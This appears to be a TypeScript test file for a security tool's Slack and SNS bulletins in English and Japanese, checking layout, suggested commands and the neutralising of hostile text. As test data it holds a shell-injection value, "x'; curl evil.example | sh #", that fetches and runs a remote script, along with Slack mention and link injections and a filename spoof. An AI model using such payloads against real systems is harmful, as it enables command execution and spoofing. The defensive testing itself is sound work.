// Bulletins as people see them: in both languages, within the limits of Slack and SNS, and with nothing acting in them.

import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { bulletins, bulletinsWith } from '../../../test/bulletins.ts'
import { blockProblems } from '../../../world/slack/block-rules.ts'
import { type Bulletin, bulletinId, bulletinKinds } from '../../domain/bulletin.ts'
import { bulletinMessage, bulletinSubject } from '../aws/sns-bulletin.ts'
import { drawBulletin } from './draw-bulletin.ts'

const kana = /[\p{Script=Hiragana}\p{Script=Katakana}]/u
const hole = /undefined|\[object|NaN|Invalid Date/

describe.each(['en', 'ja'] as const)('in %s', (locale) => {
  it.each(bulletins.map((bulletin) => [bulletin.kind, bulletin] as const))(
    '%s says what, where and what to do',
    (kind, bulletin) => {
      const drawn = drawBulletin(bulletin, locale)
      const said = JSON.stringify(drawn)
      expect(blockProblems(JSON.parse(said).blocks as never)).toEqual([])
      expect(said).not.toMatch(hole)
      for (const fact of ['123456789012', 'ap-northeast-1', kind]) expect(said).toContain(fact)
      expect(drawn.blocks[0]).toMatchObject({ block_id: `startpass:${kind}` })
      for (const block of drawn.blocks.slice(0, 3)) {
        expect(kana.test(JSON.stringify(block))).toBe(locale === 'ja')
      }
      expect(drawn.text).toMatch(/^\p{Extended_Pictographic}/u)
    },
  )

  it('no two kinds read alike', () => {
    expect(new Set(bulletins.map((bulletin) => drawBulletin(bulletin, locale).text)).size).toBe(
      bulletinKinds.length,
    )
  })
})

it('asks for the decision with the command that makes it', () => {
  const all = bulletinsWith('x')
  const said = (kind: keyof typeof all) => JSON.stringify(drawBulletin(all[kind], 'en'))
  expect(said('cap-reached')).toContain(
    '`startpass cap it-is-an-attack --account 123456789012 --region ap-northeast-1`',
  )
  expect(said('cap-reached')).toContain(
    '`startpass cap continue --account 123456789012 --region ap-northeast-1`',
  )
  expect(said('still-observing')).toContain(
    '`startpass mode enforce --account 123456789012 --region ap-northeast-1`',
  )
  expect(said('issued-with-aws-identity')).toContain('`startpass revoke P-7K3M9Q2X`')
})

it('does not say since when a place observes, which nobody notes, but since when it is guarded', () => {
  const { 'still-observing': observing } = bulletinsWith('x')
  expect(JSON.stringify(drawBulletin(observing, 'en'))).toMatch(/Guarded since [^"]* still only observed/)
  expect(JSON.stringify(drawBulletin(observing, 'ja'))).toContain('から対象ですが')
})

it.each(['en', 'ja'] as const)(
  'in %s names no command that would do nothing, or do it elsewhere',
  (locale) => {
    const { 'cap-answered': cap, 'lockdown-changed': lockdown } = bulletinsWith('x')
    const said = (bulletin: Bulletin) => JSON.stringify(drawBulletin(bulletin, locale))
    // Nothing is held any more: that answer would be refused.
    expect(said({ ...cap, answer: 'continue' })).not.toContain('it-is-an-attack')
    expect(said({ ...cap, answer: 'continue' })).toContain('`startpass lockdown on --account 123456789012`')
    expect(said({ ...lockdown, on: true })).toContain('`startpass lockdown off --account 123456789012`')
  },
)

it('mentions the owner of a standing pass who is known by a Slack id, and no name that looks otherwise', () => {
  const { 'standing-pass-ends': ends } = bulletinsWith('web')
  expect(JSON.stringify(drawBulletin({ ...ends, owner: 'U0HANASATO1' }, 'en'))).toContain('<@U0HANASATO1>')
  expect(JSON.stringify(drawBulletin({ ...ends, owner: '<!here>' }, 'en'))).not.toContain('<!here>')
})

it('quotes what others named in a command that somebody may paste into a shell', () => {
  const { 'group-suspended': suspended } = bulletinsWith("x'; curl evil.example | sh #")
  const said = JSON.stringify(drawBulletin(suspended, 'en').blocks[2])
  expect(said).toContain(String.raw`--auto-scaling-group-name 'x'\\''; curl evil.example | sh #' --scaling`)
  const fleet = { ...suspended, group: { kind: 'fleet', name: 'fleet-1' }, targetWas: 7 } as const
  expect(JSON.stringify(drawBulletin(fleet, 'ja'))).toContain(
    '--fleet-id fleet-1 --target-capacity-specification TotalTargetCapacity=7`',
  )
})

const hostile = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 400 }),
  fc.constantFrom(
    '<!channel>',
    '<@U0HANASATO1>',
    '<http://evil.example|web-1>',
    '```',
    '*'.repeat(256),
    '\u202Egnp.exe',
    'a\nb\r\nc',
    '&lt;!here&gt;',
    '<'.repeat(400),
    `a${'😀'.repeat(127)}`,
  ),
)
const acting = /<(?:!(?!date\^)|@|#|http)/

it('whatever others wrote does nothing in it, however hostile, and hides nothing of what to do', () => {
  fc.assert(
    fc.property(hostile, fc.constantFrom('en' as const, 'ja' as const), (text, locale) => {
      for (const bulletin of Object.values(bulletinsWith(text))) {
        const drawn = drawBulletin(bulletin, locale)
        const said = JSON.stringify(drawn)
        expect(blockProblems(JSON.parse(said).blocks as never)).toEqual([])
        expect(said.replaceAll('startpass:', '')).not.toMatch(acting)
        expect(said).not.toMatch(/\\ud[89a-f]|\\u0000|\\n\\u/i)
        if (bulletin.kind === 'group-suspended') continue
        const plain = JSON.stringify(drawBulletin(bulletinsWith('x')[bulletin.kind], locale).blocks[2])
        expect(JSON.stringify(drawn.blocks[2])).toBe(plain)
      }
    }),
    { numRuns: 150 },
  )
})

describe('on SNS', () => {
  it('whatever others wrote fits into JSON, and none of it into the subject', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        for (const bulletin of Object.values(bulletinsWith(text))) {
          expect(bulletinSubject(bulletin)).toBe(`[startpass] ${bulletin.kind}: 123456789012/ap-northeast-1`)
          expect(bulletinSubject(bulletin)).toMatch(/^[\x20-\x7e]{1,99}$/)
          expect(JSON.parse(JSON.stringify(bulletinMessage(bulletin)))).toMatchObject({
            schema: 1,
            id: JSON.parse(JSON.stringify(bulletinId(bulletin))) as string,
            kind: bulletin.kind,
          })
        }
      }),
      { numRuns: 150 },
    )
  })

  it.each(bulletins.map((bulletin) => [bulletin.kind, bulletin] as const))(
    '%s is said in both languages, without a hole',
    (_, bulletin) => {
      const message = bulletinMessage(bulletin) as Record<string, string>
      expect(JSON.stringify(message)).not.toMatch(hole)
      for (const field of ['summary', 'details', 'whatToDo']) {
        expect(kana.test(message[field] ?? '')).toBe(false)
        expect(kana.test(message[`${field}Ja`] ?? '')).toBe(true)
      }
    },
  )
})
